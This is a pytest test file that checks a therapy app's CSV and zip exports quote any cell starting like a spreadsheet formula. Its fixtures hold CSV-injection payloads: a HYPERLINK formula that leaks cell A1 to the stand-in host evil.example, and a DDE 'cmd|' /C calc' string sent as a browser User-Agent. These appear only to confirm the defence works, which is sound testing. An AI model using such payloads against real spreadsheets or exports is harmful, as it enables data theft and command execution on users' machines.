"""CSV exports never hold a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from sqlmodel import Session, select

from app.core.csv_safe import FORMULA_START, cell
from app.models import Assignment, Client, DeviceSession, Therapist
from app.services import invites
from tests.factories import browser, make_assignment, make_client, make_entry, make_template, make_therapist, signed_in

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
LINK = 'HYPERLINK("https://evil.example/?x="&A1,"Open")'
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _neutralized(found: str, stored: str) -> None:
    """The cell shows what was stored, with a quote in front when it starts like a formula."""
    if stored.startswith(FORMULA_START):
        assert found == "'" + stored
    else:
        assert found == stored


def _no_formula_anywhere(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START) or NUMBER.fullmatch(value), (value, row)


def _world(session: Session, prefix: str) -> tuple[Therapist, Client, Assignment]:
    therapist = make_therapist(session, name=f"{prefix}Dr Evil")
    client = make_client(session, therapist=therapist, name=f"{prefix}Alias")
    fields = [
        {"key": "note", "type": "long_text", "label": f"{prefix}Question"},
        {"key": "temp", "type": "number", "label": "Temperature", "min": -50, "max": 50},
    ]
    template = make_template(session, therapist=therapist, title=f"{prefix}Form", fields=fields)
    assignment = make_assignment(session, client=client, template=template, instructions=f"{prefix}Do it daily")
    make_entry(session, client=client, assignment=assignment, answers={"note": f"x\n{prefix}{LINK}", "temp": -3})
    make_entry(session, client=client, assignment=assignment, answers={"note": f"{prefix}{LINK}", "temp": 2})
    return therapist, client, assignment


@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_therapist_and_client_csv_neutralize_formulas(app, session, prefix: str) -> None:
    therapist, client, assignment = _world(session, prefix)
    session.refresh(therapist)
    session.refresh(assignment)
    form_title = f"{prefix}Form".strip()  # titles are stored trimmed
    answer = f"{prefix}{LINK}".strip()  # so are text answers
    if prefix not in "\t\r":
        assert answer.startswith(prefix) and therapist.display_name.startswith(prefix)

    # The therapist's export.
    desk = signed_in(browser(app), session, therapist)
    assert desk.get(f"/t/clients/{client.id}").status_code == 200  # an audited read, for the access log
    response = desk.get(f"/t/clients/{client.id}/export.csv")
    assert response.status_code == 200
    rows = _rows(response.text)
    _no_formula_anywhere(rows)
    notes = [row for row in rows if row["question_key"] == "note"]
    assert len(notes) == 2
    for row in notes:
        _neutralized(row["record"], form_title)
        _neutralized(row["question"], f"{prefix}Question")  # labels are kept as typed
    attack = next(row for row in notes if row["raw_answer"] != f"x\n{prefix}{LINK}")
    _neutralized(attack["raw_answer"], answer)
    _neutralized(attack["answer"], answer)
    # A number the app validated stays a number, negative or not.
    assert sorted(row["raw_answer"] for row in rows if row["question_key"] == "temp") == ["-3", "2"]
    desk.close()

    # A device joined with a hostile browser name, so the client's devices.csv shows it.
    issued = invites.issue(session, therapist=therapist, client=client, hours=72)
    session.commit()
    joiner = browser(app)
    page = joiner.get("/join")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token
    agent = f"{prefix}cmd|' /C calc'!A0"
    joined = joiner.post(
        "/join",
        data={"token": issued.token, "csrf_token": token.group(1)},
        headers={"User-Agent": agent},
        follow_redirects=False,
    )
    assert joined.status_code == 303
    joiner.close()
    session.expire_all()
    label = session.exec(select(DeviceSession.label).where(DeviceSession.client_id == client.id)).one()

    # The client's own download: every CSV in it.
    phone = signed_in(browser(app), session, client)
    archive = zipfile.ZipFile(io.BytesIO(phone.get("/c/export.zip").content))
    phone.close()
    files = {name: _rows(archive.read(name).decode()) for name in archive.namelist() if name.endswith(".csv")}
    assert set(files) == {"entries.csv", "assignments.csv", "devices.csv", "access_log.csv"}
    for found in files.values():
        _no_formula_anywhere(found)
    entries = files["entries.csv"]
    attack = next(row for row in entries if row["question_key"] == "note" and "\n" not in row["raw_answer"])
    _neutralized(attack["raw_answer"], answer)
    _neutralized(attack["record"], form_title)
    assert sorted(row["raw_answer"] for row in entries if row["question_key"] == "temp") == ["-3", "2"]
    (assigned,) = files["assignments.csv"]
    _neutralized(assigned["record"], form_title)
    _neutralized(assigned["instructions"], assignment.instructions)
    assert label
    # The joined phone, and the one the test signed in.
    assert len(files["devices.csv"]) == 2
    shown = "'" + label if label.startswith(FORMULA_START) else label
    assert any(row["label"] == shown for row in files["devices.csv"])
    assert files["access_log.csv"]
    for row in files["access_log.csv"]:
        _neutralized(row["who"], therapist.display_name)


def test_cell_keeps_numbers_and_quotes_text_that_starts_like_a_formula() -> None:
    for prefix in PREFIXES:
        assert cell(f"{prefix}1+1") == f"'{prefix}1+1"
    # Typed text that looks like a negative number is still text: quoted.
    assert cell("-5") == "'-5"
    # Numbers the app computed or validated stay numbers.
    assert cell(-5) == -5
    assert cell(-2.5) == -2.5
    assert cell(True) == "True"
    assert cell(None) == ""
    assert cell("plain, with a comma") == "plain, with a comma"
    assert cell("a=b") == "a=b"
